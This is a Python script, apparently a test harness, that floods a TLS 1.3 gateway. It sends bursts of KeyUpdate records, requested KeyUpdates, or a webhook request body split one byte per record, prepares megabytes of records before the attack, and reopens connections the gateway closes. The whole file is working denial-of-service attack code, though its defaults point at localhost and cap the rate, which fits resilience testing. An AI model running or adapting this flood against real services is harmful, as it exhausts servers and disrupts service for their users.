"""TLS 1.3 records that cost the gateway work and bring no request: prepared before the attack, sent at a bounded rate.

`update` sends KeyUpdate records, each of which makes new keys; `requested` ones ask the gateway to answer each; `tiny` sends a
request body with one byte in each record. A connection that the gateway closes is opened again, and its records are made on the way.
"""

import time

import openssl
import wire

BATCH = 500  # records, 13.5 KB


class Flood:
    def __init__(self, options, counts, pace):
        self.options, self.counts, self.pace = options, counts, pace

    def open(self):
        client = openssl.Client(wire.tcp(self.options.port))
        self.counts.add("connections")
        # One answered request, so that the deadlines of an idle keep-alive connection apply.
        client.connection.sendall(client.write(b"GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n"))
        client.connection.recv(65536)
        if self.options.kind == "tiny":
            lines = wire.github("push", "tiny", wire.PLAUSIBLE)
            client.connection.sendall(client.write(wire.head("/github", 20_000_000, *lines)))
        return client

    def batch(self, client):
        if self.options.kind == "tiny":
            return client.tiny(b" " * BATCH)
        return client.key_updates(BATCH, requested=self.options.kind == "requested")

    def prepare(self):
        share = self.options.prepared * 1_000_000 / self.options.connections
        client, batches, size = self.open(), [], 0
        while size < share:
            batches.append(self.batch(client))
            size += len(batches[-1])
        return client, batches

    def run(self, client, batches):
        """Sends what was prepared, then what it makes on the way, until it is closed; then over a new connection."""
        while True:
            try:
                client = client or self.open()
                client.connection.settimeout(None)
                for data in batches:
                    self.send(client, data)
                while True:
                    self.send(client, self.batch(client))
            except OSError:
                self.counts.add("closed by the gateway")
                if client:
                    client.close()
                client, batches = None, []
                self.pace.take(100_000)

    def send(self, client, data):
        self.pace.take(len(data))
        client.connection.sendall(data)
        self.counts.add("records", BATCH)


def main():
    options = wire.parser(__doc__, connections=2, rate=3_000_000, seconds=5)
    options.add_argument("--kind", choices=["update", "requested", "tiny"], default="update")
    options.add_argument("--prepared", type=float, default=12, help="megabytes of records made before the attack")
    options = options.parse_args()
    counts = wire.Counts()
    flood = Flood(options, counts, wire.Pace(options.rate))
    prepared = [flood.prepare() for _ in range(options.connections)]
    until = wire.begin(options)
    wire.many_threads(options.connections, lambda number: flood.run(*prepared[number]), until)
    wire.finish(**counts.values)


main()
